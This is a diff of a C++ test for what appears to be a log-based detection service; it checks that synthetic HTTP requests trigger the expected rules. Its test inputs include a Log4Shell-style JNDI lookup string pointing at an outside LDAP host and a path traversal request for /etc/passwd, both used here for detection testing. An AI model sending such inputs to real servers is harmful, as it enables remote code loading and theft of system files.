@@ -85,12 +85,17 @@ TEST_F(ServeLifters, HttpRequestsAreTaggedByUserAgentPathAndHiddenLookups) {
   stream += request(2, ip, "/", "{\\\"X-Api-Version\\\": \\\"${jndi:ldap://198.51.100.9/a}\\\"}");
   stream += request(3, ip, "/../../../../etc/passwd", "{}");
   stream += request(4, ip, "/about.html", "{\\\"User-Agent\\\": \\\"Mozilla/5.0\\\"}");
+  // The fingerprint socket's JA4H of a client that sends no headers: a script, not a browser.
+  stream += octet_frame(
+      line(5, "web-01", "http", "http_request_fingerprint",
+           "src_ip=\"" + ip + "\" ja4h=\"ge11nn0000_4740ae6347b0_000000000000_000000000000\""));
   TcpClient client(serve_.tcp_port());
   ASSERT_TRUE(client.send(stream));
 
   ASSERT_TRUE(wait_until([&] {
     return count("rule_id = 'R0007'") == 2 && count("rule_id = 'R0036'") == 1 &&
-           count("rule_id = 'R0008'") == 1 && count("rule_id = 'R0009'") == 1;
+           count("rule_id = 'R0008'") == 1 && count("rule_id = 'R0009'") == 1 &&
+           count("rule_id = 'R0060'") == 1;
   })) << serve_.output();
   // Each tag names the log row it came from; the harmless request has none.
   EXPECT_EQ(count("source_kind = 'http_request' AND source_id NOT LIKE 'log:%'"), 0);
